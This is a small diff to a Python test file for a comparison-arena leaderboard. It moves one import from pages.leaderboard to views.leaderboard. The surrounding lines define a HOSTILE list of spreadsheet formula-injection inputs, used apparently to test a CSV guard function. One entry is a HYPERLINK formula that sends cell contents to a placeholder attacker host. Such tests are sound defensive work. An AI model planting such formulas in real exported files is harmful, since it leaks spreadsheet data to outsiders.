@@ -10,9 +10,9 @@ from datetime import UTC, datetime
 import pytest
 
 from arena.battles import Battle, parse, to_csv
-from pages.leaderboard import _csv
 from storage.comparisons import AnswerRow
 from storage.spreadsheet import guard, unguard
+from views.leaderboard import _csv
 
 HOSTILE = ["=HYPERLINK(\"http://attacker.test/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1)", "\tcmd", "\r=1"]
 
